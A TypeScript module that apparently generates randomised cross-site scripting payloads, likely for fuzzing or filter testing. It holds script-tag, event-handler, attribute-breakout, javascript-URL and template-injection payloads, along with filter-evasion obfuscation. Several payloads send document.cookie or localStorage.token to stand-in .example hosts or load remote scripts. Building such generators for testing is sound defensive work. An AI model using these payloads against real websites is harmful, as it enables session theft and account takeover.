import type { Random } from '../../random.ts';
import { base64, caseGames, entities } from '../encoding.ts';

type Grammar = (random: Random) => string;

const call: Grammar = (r) =>
  r.pick([
    'alert(1)',
    `alert('${r.text(4)}')`,
    'alert(document.cookie)',
    'prompt(1)',
    'confirm`1`',
    'print()',
    'alert(document.domain)',
    'eval(name)',
    'top["al"+"ert"](1)',
    `fetch('//${r.text(6)}.example/?c='+document.cookie)`,
    `document.location='https://${r.text(6)}.example/'+document.cookie`,
    `new Image().src='//${r.text(5)}.example/'+localStorage.token`,
    'window["alert"](origin)',
    `eval(atob('${base64('alert(document.cookie)')}'))`,
    'Function("ale"+"rt(1)")()',
    '(alert)(1)',
    'alert?.(1)',
    'import("//x.example/a.js")',
    'setTimeout("alert(1)",1)',
    'self[/aler/.source+/t/.source](1)',
    '\\u0061lert(1)',
    'throw onerror=alert,1',
  ]);

const EVENTS = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'ontoggle',
  'onstart',
  'onanimationend',
  'onpointerenter',
  'onbegin',
  'onpageshow',
  'onwheel',
  'oncut',
  'onscroll',
  'ontransitionend',
  'onauxclick',
  'onbeforeinput',
] as const;
const out: Grammar = (r) =>
  r.weighted([
    ['', 45],
    ['">', 20],
    ["'>", 12],
    ['</title>', 4],
    ['</textarea>', 5],
    ['-->', 4],
    ['"/>', 6],
    ['</script>', 4],
  ] as const);

export const HTML_KINDS = {
  script: (r) =>
    `${out(r)}${r.pick([
      `<script>${call(r)}</script>`,
      `<script src=//${r.text(6)}.example/x.js></script>`,
      `<ScRiPt >${call(r)}</sCrIpT>`,
      `<script/x>${call(r)}</script>`,
      `<script\n>${call(r)}</script\n>`,
      `<svg><script>${call(r)}</script></svg>`,
      `<script>/*${r.text(3)}*/${call(r)}//</script>`,
      `<<script>${call(r)}//<</script>`,
      `<script type="text/javascript">${call(r)}</script>`,
      `<scr<script>ipt>${call(r)}</scr</script>ipt>`,
      `<script>${call(r)}`,
    ])}`,
  event_handler: (r) => {
    const event = r.pick(EVENTS);
    const quote = r.pick(['"', "'", '', '`']);
    return `${out(r)}${r.pick([
      `<img src=x ${event}=${quote}${call(r)}${quote}>`,
      `<svg ${event}=${quote}${call(r)}${quote}>`,
      `<svg/${event}=${call(r)}>`,
      `<body ${event}=${call(r)}>`,
      `<details open ${event}=${call(r)}>`,
      `<input autofocus ${event}=${call(r)}>`,
      `<video><source ${event}="${call(r)}">`,
      `<marquee ${event}=${call(r)}>x</marquee>`,
      `<a href=# ${event}=${quote}${call(r)}${quote}>x</a>`,
      `<img/src='1'/${event}=${call(r)}>`,
      `<select ${event}=${call(r)} autofocus>`,
      `<x ${event}=${call(r)}>${r.text(3)}</x>`,
      `<audio src ${event}=${call(r)}>`,
      `<math><mtext ${event}=${call(r)}>`,
    ])}`;
  },
  attribute: (r) =>
    r.pick([
      `" ${r.pick(EVENTS)}="${call(r)}`,
      `' ${r.pick(EVENTS)}='${call(r)}`,
      `" autofocus ${r.pick(EVENTS)}=${call(r)} x="`,
      `x" style="animation-name:x" ${r.pick(EVENTS)}="${call(r)}`,
      `"accesskey="x"onclick="${call(r)}`,
      `' style=width:expression(${call(r)}) '`,
    ]),
  tag: (r) =>
    `${out(r)}${r.pick([`<iframe src="javascript:${call(r)}">`, `<iframe srcdoc="<script>${call(r)}</script>">`, `<object data="data:text/html;base64,${base64(`<script>${call(r)}</script>`)}">`, `<embed src="javascript:${call(r)}">`, `<meta http-equiv="refresh" content="0;url=javascript:${call(r)}">`, `<base href="//${r.text(5)}.example/">`, `<link rel=stylesheet href=//${r.text(5)}.example/x.css>`, `<form action="javascript:${call(r)}"><button>x`, `<style>@import'//${r.text(5)}.example/x';</style>`, `<math href="javascript:${call(r)}">x</math>`])}`,
  javascript_url: (r) =>
    r.pick([
      `javascript:${call(r)}`,
      `JaVaScRiPt:${call(r)}`,
      `java\tscript:${call(r)}`,
      `javascript://%0a${call(r)}`,
      `data:text/html,<script>${call(r)}</script>`,
      `vbscript:msgbox(1)`,
      `&#106;avascript:${call(r)}`,
      ` javascript:${call(r)}//`,
    ]),
  script_context: (r) =>
    r.pick([
      `';${call(r)};//`,
      `"-${call(r)}-"`,
      `\\';${call(r)}//`,
      `\${${call(r)}}`,
      `'-${call(r)}-'`,
      `</script><script>${call(r)}</script>`,
      `"};${call(r)};{"`,
      `{{constructor.constructor('${call(r).replaceAll("'", '')}')()}}`,
    ]),
} as const satisfies Record<string, Grammar>;

export type HtmlKind = keyof typeof HTML_KINDS;

export function disguisedHtml(r: Random, text: string): string {
  const way = r.int(0, 3);
  if (way === 0) return text.replaceAll(/<\/?[a-z]+|on[a-z]+(?==)/g, (tag) => caseGames(r, tag));
  if (way === 1) return text.replaceAll(/(?<==["']?)[^<>"']{3,}/g, (value) => entities(r, value));
  if (way === 2) return text.replaceAll(' ', r.pick(['/', '\n', '\t', '\f']));
  return text.replaceAll(
    'alert',
    r.pick(['\\u0061lert', 'al\\u0065rt', 'window[`al`+`ert`]', 'top[8680439..toString(30)]']),
  );
}
